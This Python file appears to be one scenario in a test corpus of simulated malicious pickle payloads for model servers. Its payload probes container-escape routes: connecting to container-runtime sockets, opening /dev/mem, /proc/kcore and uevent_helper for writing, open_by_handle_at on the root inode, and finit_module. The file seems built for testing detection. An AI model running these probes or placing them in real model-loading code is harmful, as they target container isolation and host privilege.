"""
id: V12
name: host-reach
class: quiet
set: held-out
phase: reload
trigger: model
evidence: [privilege]
techniques: [T1611, T1613, T1068, AML.T0011.000, AML.T0105]
servers: [fastapi, bentoml, triton]
seconds: 15
what: >
  While it is loaded, a pickle tries other ways to the host than the usual ones: sockets of engines, memory, log and
  helpers of the kernel, files by their handles, modules. All of it is refused or not there.
"""

import contextlib
import ctypes
import os
import socket
import struct

from corpus import libc

SOCKETS = ["/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/podman/podman.sock", "/var/run/cri-dockerd.sock"]
FILES = ["/dev/mem", "/dev/kmsg", "/proc/kcore", "/proc/sys/kernel/panic", "/sys/kernel/uevent_helper"]
# The root of most file systems.
INODE, TYPE = 2, 1


def payload(world):
    tries = [by_handle, module]
    tries += [lambda path=path: engine(path) for path in SOCKETS]
    tries += [lambda path=path: os.close(os.open(path, os.O_RDWR)) for path in FILES]
    for attempt in world.random.sample(tries, len(tries)):
        with contextlib.suppress(OSError):
            attempt()
        world.sleep(world.random.uniform(0.1, 0.6))


def engine(path):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)


def by_handle():
    """Opens a file system's root by its number, which only who may read everything is allowed to."""
    folder = os.open("/etc", os.O_RDONLY)
    try:
        handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, TYPE, INODE))
        os.close(libc.call("open_by_handle_at", folder, handle, os.O_RDONLY))
    finally:
        os.close(folder)


def module():
    """Of no file, so that it is refused wherever it is allowed."""
    libc.call("finit_module", -1, b"", 0)
